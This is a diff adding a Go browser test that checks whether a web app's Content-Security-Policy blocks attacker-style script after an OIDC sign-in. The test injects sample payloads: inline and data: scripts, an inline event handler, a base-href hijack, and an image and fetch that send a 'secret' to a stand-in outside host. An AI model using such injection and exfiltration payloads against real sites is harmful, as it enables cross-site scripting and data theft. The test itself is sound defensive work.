@@ -1,0 +1,46 @@
+package browser
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"fleet/internal/app"
+)
+
+// TestPolicy signs in with an issuer, which the Content-Security-Policy must allow: a violation is an error of the page. Then it
+// tries what a script of an attacker would try.
+func TestPolicy(t *testing.T) {
+	t.Parallel()
+	s, issuer := serveIssuer(t, app.AuthTokens, app.AuthOIDC)
+	b := open(t, s.home)
+	b.expect("401") // there is nothing to refresh yet
+	b.goTo("/")
+	b.press("Sign in with " + issuer.URL[len("http://"):])
+	b.press("Continue as alice")
+	b.sees("No agents yet")
+
+	b.expect("Content Security Policy")
+	b.expect("ERR_BLOCKED_BY_CSP")
+	eval[bool](b, `(() => {
+		window.refused = []
+		addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))
+		const add = (name, set) => { const e = document.createElement(name); Object.assign(e, set); document.body.append(e); return e }
+		add('script', {textContent: 'window.owned = 1'})
+		add('script', {src: 'data:text/javascript,window.owned=1'})
+		add('img', {src: 'http://192.0.2.1/?secret'})
+		add('iframe', {src: '/'})
+		add('base', {href: 'http://192.0.2.1/'})
+		add('style', {textContent: 'body { color: red }'})
+		add('p', {}).setAttribute('style', 'color: red')
+		add('p', {}).setAttribute('onclick', 'window.owned = 1')
+		add('form', {action: '/session', method: 'post'}).submit()
+		fetch('http://192.0.2.1/').catch(() => {})
+		setTimeout('window.owned = 1')
+		return true
+	})()`)
+	for _, directive := range []string{"script-src-elem", "script-src-attr", "script-src", "img-src", "frame-src", "base-uri", "style-src-elem", "style-src-attr", "form-action", "connect-src"} {
+		require.NoError(t, b.until(`directive => window.refused.includes(directive)`, directive), "the page may do what %s forbids", directive)
+	}
+	require.False(t, eval[bool](b, `'owned' in window`))
+}
